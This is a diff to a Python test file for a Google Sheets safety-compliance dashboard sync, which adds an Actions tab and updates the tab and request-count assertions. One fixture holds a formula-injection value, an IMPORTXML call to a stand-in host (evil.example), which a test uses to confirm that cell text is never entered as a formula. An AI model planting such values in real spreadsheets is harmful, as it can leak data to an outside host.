@@ -10,7 +10,16 @@ import pytest
 
 from jobs.sync import run_sync
 from pipeline.errors import SecorError
-from pipeline.outputs.dashboard import DATA_ISSUES, SUMMARY, TAB_NAMES, Sheet
+from pipeline.outputs.dashboard import (
+    ACTIONS,
+    CERTIFICATIONS,
+    DATA_ISSUES,
+    DEFICIENCIES,
+    READINESS,
+    SUMMARY,
+    TAB_NAMES,
+    Sheet,
+)
 from pipeline.outputs.sheets import cell, serial
 
 from .data import FORMS, FORMS_KEY, OFFICE, OFFICE_KEY
@@ -20,7 +29,7 @@ FORMULA = '=IMPORTXML("http://evil.example/x", "//a")'
 
 
 def sheets(n: int) -> tuple[Sheet, ...]:
-    """The five tabs with ``n`` rows on Data Issues and Deficiencies."""
+    """The six tabs with ``n`` rows on Data Issues and Deficiencies."""
     issues = pd.DataFrame({
         "Table": ["FLHA"] * n, "Row": list(range(2, n + 2)), "Column": ["Hazards"] * n,
         "Value": [FORMULA if i == 0 else f"text {i}" for i in range(n)], "Problem": ["required value is blank"] * n})
@@ -35,9 +44,11 @@ def sheets(n: int) -> tuple[Sheet, ...]:
     empty = pd.DataFrame(columns=["Worker", "Role", "Ticket", "Status", "Completed", "Expires", "Days Left"])
     readiness = pd.DataFrame([("Element 1", "E1.1 Safety policy", "Fail", "none", "")],
                              columns=["Element", "Check", "Status", "Detail", "Records"])
-    return (Sheet(TAB_NAMES[0], summary, "Status"), Sheet(TAB_NAMES[1], empty, "Status"),
-            Sheet(TAB_NAMES[2], deficiencies, "Status"), Sheet(TAB_NAMES[3], readiness, "Status"),
-            Sheet(TAB_NAMES[4], issues, None))
+    actions = pd.DataFrame([(date(2026, 11, 7), "Ravi Sandhu", "Renew Ravi Sandhu's H2S Alive")],
+                           columns=["Due", "Who", "What"])
+    return (Sheet(SUMMARY, summary, "Status", filter=False), Sheet(ACTIONS, actions),
+            Sheet(CERTIFICATIONS, empty, "Status"), Sheet(DEFICIENCIES, deficiencies, "Status"),
+            Sheet(READINESS, readiness, "Status"), Sheet(DATA_ISSUES, issues, None))
 
 
 def office(emulator):
@@ -55,7 +66,7 @@ def test_write_costs_the_same_requests_for_10_and_10000_rows(emulator, make_sour
         counts.append(len(calls))
         assert [(c["method"], c["path"].rsplit("/", 1)[-1]) for c in calls] == [
             ("GET", OFFICE_KEY), ("POST", f"{OFFICE_KEY}:batchUpdate")]
-        assert len(written) == 5 and all("docs.google.com/spreadsheets/d/" in w for w in written)
+        assert len(written) == 6 and all("docs.google.com/spreadsheets/d/" in w for w in written)
         assert book.tab(DATA_ISSUES).rows()[-1][3] == f"text {n - 1}"
         assert len(book.tab(DATA_ISSUES).rows()) == n + 1  # the 10,000 rows of the previous run are gone
         assert book.tab(DATA_ISSUES).grid["rowCount"] == n + 1
@@ -68,7 +79,7 @@ def test_text_is_written_as_text_never_as_a_formula(emulator, make_source):
     tab = book.tab(DATA_ISSUES)
     assert tab.value(1, 3) == FORMULA
     assert tab.entered_kind(1, 3) == "stringValue"
-    defs = book.tab(TAB_NAMES[2])
+    defs = book.tab(DEFICIENCIES)
     assert defs.entered_kind(1, 3) == "stringValue" and defs.value(1, 3) == "+1 brake light"
     assert defs.value(1, 2) == serial(date(2026, 9, 1))  # a date is a serial number with a date format
     assert defs.cells[(1, 2)]["userEnteredFormat"]["numberFormat"]["type"] == "DATE"
@@ -146,11 +157,11 @@ def test_sync_reads_and_writes_in_six_requests(emulator, make_settings):
     settings = make_settings([OFFICE_KEY, FORMS_KEY])
     result = run_sync(settings, as_of=date(2026, 10, 31))
     assert len(emulator.api_requests()) == 6  # 2 per spreadsheet read + 2 to write
-    assert len(result.written) == 5
+    assert len(result.written) == 6
     book = emulator.spreadsheets[OFFICE_KEY]
     assert book.tab(SUMMARY).rows()[1][:2] == ["Company", "Demo Company"]
-    assert book.tab(TAB_NAMES[1]).rows()[0] == ["Worker", "Role", "Ticket", "Status", "Completed", "Expires",
-                                                 "Days Left"]
+    assert book.tab(CERTIFICATIONS).rows()[0] == ["Worker", "Status", "Expires", "Ticket", "Days Left", "Role",
+                                                   "Completed"]
     emulator.clear_log()
     run_sync(settings, as_of=date(2026, 10, 31))  # the dashboards are not read back as sources
     assert len(emulator.api_requests()) == 6
